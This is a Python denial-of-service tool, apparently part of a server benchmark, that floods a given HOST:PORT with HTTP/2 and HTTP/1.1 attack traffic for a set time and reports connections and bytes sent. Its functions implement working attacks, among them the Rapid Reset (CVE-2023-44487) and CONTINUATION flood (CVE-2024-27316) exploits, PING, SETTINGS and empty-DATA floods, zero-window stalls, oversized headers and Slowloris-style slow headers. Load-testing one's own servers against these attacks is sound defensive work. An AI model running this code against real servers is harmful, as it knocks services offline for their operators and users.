"""One attacker: asks for trouble as fast as it can, for so many seconds.

    flood.py HOST:PORT KIND SECONDS

A connection that the server ends is made anew at once. Prints how many connections
it made and how many bytes they took.
"""

import json
import os
import select
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

from bench import frames  # noqa: E402
from bench.frames import (  # noqa: E402
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, frame)

# Frames that go out in one write.
BURST = 100
# A slow attacker has so many connections at once.
SLOW = 200


def resets():
    """Streams that are reset at once (CVE-2023-44487)."""
    head, stream = frames.request("GET", "/openapi.json"), 1
    while True:
        burst = []
        for _ in range(BURST):
            burst.append(frame(HEADERS, END_HEADERS | END_STREAM, stream, head))
            burst.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
            stream += 2
        yield b"".join(burst)


def continuations():
    """A header list without an end (CVE-2024-27316)."""
    yield frame(HEADERS, END_STREAM, 1, frames.request("GET", "/"))
    part = frame(CONTINUATION, 0, 1, frames.block([("x-filler", "a" * 1000)]))
    while True:
        yield part * BURST


def empty_data():
    """Data without data."""
    yield frame(HEADERS, END_HEADERS, 1, frames.request("POST", "/x.Y/Z", ("content-type", "application/grpc")))
    while True:
        yield frame(DATA, 0, 1) * BURST


def pings():
    """Pings."""
    while True:
        yield frame(PING, 0, 0, b"abcdefgh") * BURST


def settings():
    """Settings."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * BURST


def unread():
    """Long answers for a window of nothing."""
    head = frames.request("GET", "/openapi.json")
    stream = 1
    while stream < 400:
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head)
        stream += 2
    while True:
        time.sleep(0.01)
        yield frame(PING, 0, 0, b"abcdefgh")


def long_headers():
    """Header lists that are far too long."""
    head = frames.request("GET", "/", ("x-long", "a" * 15_000))
    part, stream = frames.block([("x-more", "b" * 15_000)]), 1
    while True:
        yield (frame(HEADERS, END_STREAM, stream, head) + frame(CONTINUATION, 0, stream, part) * 3
               + frame(CONTINUATION, END_HEADERS, stream))
        stream += 2


KINDS = {kind.__name__: kind for kind in (resets, continuations, empty_data, pings, settings, unread, long_headers)}


def once(address, kind, until):
    """One connection until the server ends it; the bytes that it took."""
    sent, window = 0, 0 if kind is unread else 65_535
    try:
        with socket.create_connection(address, 10) as door:
            door.sendall(frames.hello(window))
            door.setblocking(False)
            for burst in kind():
                left = memoryview(burst)
                while left:
                    now = time.monotonic()
                    if now >= until:
                        return sent
                    readable, writable, _ = select.select([door], [door], [], min(1, until - now))
                    # What comes back is thrown away, so that nothing but its rules slows the server.
                    if readable and kind is not unread and not door.recv(1 << 20):
                        return sent
                    if writable:
                        taken = door.send(left)
                        sent, left = sent + taken, left[taken:]
    except OSError:
        pass
    return sent


def slow(address, until):
    """Many connections of HTTP/1.1 whose headers come one now and then."""
    doors = []
    made = 0
    while time.monotonic() < until:
        while len(doors) < SLOW:
            try:
                door = socket.create_connection(address, 10)
                door.sendall(b"GET / HTTP/1.1\r\n")
            except OSError:
                break
            doors.append(door)
            made += 1
        for door in list(doors):
            try:
                door.sendall(b"x-slow: 1\r\n")
            except OSError:
                doors.remove(door)
                door.close()
        time.sleep(0.1)
    return made


def main():
    """Attacks."""
    host, port = sys.argv[1].rsplit(":", 1)
    address, until = (host, int(port)), time.monotonic() + float(sys.argv[3])
    if sys.argv[2] == "slow_headers":
        print(json.dumps({"connections": slow(address, until), "mib": 0}))
        return
    connections = taken = 0
    while time.monotonic() < until:
        taken += once(address, KINDS[sys.argv[2]], until)
        connections += 1
    print(json.dumps({"connections": connections, "mib": taken / (1 << 20)}))


if __name__ == "__main__":
    main()
